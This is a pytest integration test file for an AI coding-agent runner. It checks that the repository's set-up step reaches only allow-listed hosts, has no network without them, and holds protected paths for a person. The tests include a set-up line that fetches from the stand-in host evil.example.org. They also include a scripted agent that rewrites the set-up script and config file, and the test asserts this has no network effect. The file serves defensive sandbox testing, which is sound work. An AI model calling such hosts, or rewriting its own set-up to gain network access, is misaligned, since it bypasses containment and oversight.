"""The set-up phase: the repository's own commands, a network to named hosts alone, and no work of an agent in reach."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from messaging.connection import NatsBus
from schemas.jobs import Limits
from tests.integration.runner.rig import FIX, SOURCE, rig
from tests.support.nats_server import NatsServer
from tests.support.scripted_agent import ScriptedAgent

NO_MODEL = "http://127.0.0.1:9/v1"
LIMITS = Limits(wall_seconds=60)
FETCH = """
import http.client, os, sys
proxy = (os.environ.get("HTTPS_PROXY") or "http://127.0.0.1:8089").removeprefix("http://")
try:
    connection = http.client.HTTPConnection(proxy, timeout=10)
    connection.set_tunnel(sys.argv[1], int(sys.argv[2]))
    connection.request("GET", "/package")
    print(connection.getresponse().read().decode())
except OSError as error:
    print("unreachable", error)
    sys.exit(int(sys.argv[3]) if len(sys.argv) > 3 else 1)
"""


@asynccontextmanager
async def registry() -> AsyncIterator[tuple[int, list[str]]]:
    """A loopback server that gives a package to everybody; its port, and who has asked."""
    asked: list[str] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append((await reader.readuntil(b"\r\n\r\n")).decode())
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 11\r\nConnection: close\r\n\r\nthe package")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1], asked
    finally:
        server.close()


def files(port: int, settings: str) -> dict[str, str]:
    return SOURCE | {"tools/fetch.py": FETCH, "tools/setup.sh": SET_UP.format(port=port), ".soulcaster.yml": settings}


SET_UP = """
python3 tools/fetch.py 127.0.0.1 {port} > vendored.txt
python3 tools/fetch.py evil.example.org 443 0
echo changed >> README.md; mkdir -p 'shop.egg info'; touch 'shop.egg info/x'
"""
SETTINGS = "setup: sh tools/setup.sh\ntest: grep -q 'the package' vendored.txt && python3 -m unittest -q\n"


async def test_set_up_reaches_named_hosts_and_the_agent_nothing_and_its_traces_are_no_change(
    nats: NatsServer, bus: NatsBus, tmp_path: Path
) -> None:
    async with registry() as (port, asked):
        agent = ScriptedAgent(f"cat vendored.txt; python3 tools/fetch.py 127.0.0.1 {port} 0; git status --short; {FIX}")
        repo = files(port, SETTINGS) | {"README.md": "shop\n"}
        hosts = (f"127.0.0.1:{port}",)
        async with rig(bus, nats.url, tmp_path, agent, NO_MODEL, files=repo, setup_hosts=hosts) as at:
            job = await at.fixed(limits=LIMITS)
            log = await at.log("JOB1")
            assert job.status == "success", (job.failure, log)
            assert job.report is not None
            assert job.report.changed_files == ["shop/pricing.py"], log
            assert job.report.verification.verdict == "reproduced"
            assert "following .soulcaster.yml of" in log
            assert "set-up `sh tools/setup.sh`: exit code 0" in log
            assert "kept from reaching: evil.example.org:443" in log
            said = log[log.index("scripted 1.0.0") : log.index("on the base commit")]
            assert "the package" in said
            assert "unreachable" in said
            assert "README" not in said
            assert len(asked) == 3  # before the agent, on the base commit, on the patch
            await at.nothing_left()


async def test_what_the_agent_made_of_the_set_up_never_runs_with_a_network(
    nats: NatsServer, bus: NatsBus, tmp_path: Path
) -> None:
    async with registry() as (port, asked):
        steal = f"echo 'python3 tools/fetch.py 127.0.0.1 {port}; echo stolen' > tools/setup.sh"
        settings = f"printf 'setup: echo mine\\ntest: \"true\"\\n' > .soulcaster.yml; {steal}; {FIX}"
        repo = files(port, SETTINGS)
        hosts = (f"127.0.0.1:{port}",)
        async with rig(bus, nats.url, tmp_path, ScriptedAgent(settings), NO_MODEL, files=repo, setup_hosts=hosts) as at:
            job = await at.fixed(limits=LIMITS)
            log = await at.log("JOB1")
            assert job.status == "needs_review", (job.failure, log)
            assert ".soulcaster.yml" in (job.failure.reason if job.failure else "")
            assert "stolen" not in log
            assert "set-up `echo mine`" not in log
            assert len(asked) == 3


async def test_without_hosts_set_up_has_no_network_whatever_the_repository_asks_for(
    nats: NatsServer, bus: NatsBus, tmp_path: Path
) -> None:
    async with registry() as (port, asked):
        settings = f"setup: python3 tools/fetch.py 127.0.0.1 {port}\nnetwork: [packages.example.org]\n"
        async with rig(bus, nats.url, tmp_path, ScriptedAgent(FIX), NO_MODEL, files=files(port, settings)) as at:
            job = await at.fixed(limits=LIMITS)
            assert job.status == "success", (job.failure, await at.log("JOB1"))
            assert "exit code 1 after" in await at.log("JOB1")
            assert "without a network" in await at.log("JOB1")
            assert asked == []


@pytest.mark.parametrize(
    ("settings", "words"),
    [("test: [a\n", "is no YAML in line 2"), ("tset: pytest\n", "unknown field `tset`")],
)
async def test_a_file_that_is_wrong_ends_the_job_with_what_is_wrong(
    nats: NatsServer, bus: NatsBus, tmp_path: Path, settings: str, words: str
) -> None:
    repo = SOURCE | {".soulcaster.yml": settings}
    async with rig(bus, nats.url, tmp_path, ScriptedAgent(FIX), NO_MODEL, files=repo) as at:
        job = await at.fixed(limits=LIMITS)
        assert job.failure is not None
        assert job.failure.kind == "repository"
        assert words in job.failure.reason
        assert ".soulcaster.yml of commit" in job.failure.reason
        assert "repository-settings.md" in job.failure.action


async def test_a_path_that_the_repository_protects_waits_for_a_person(
    nats: NatsServer, bus: NatsBus, tmp_path: Path
) -> None:
    repo = SOURCE | {".soulcaster.yml": "protected: [shop]\n"}
    async with rig(bus, nats.url, tmp_path, ScriptedAgent(FIX), NO_MODEL, files=repo) as at:
        held = await at.fixed(limits=LIMITS)
        assert held.status == "needs_review"
        assert held.failure is not None
        assert "shop/pricing.py" in held.failure.reason
        assert at.branches() == ["main"]
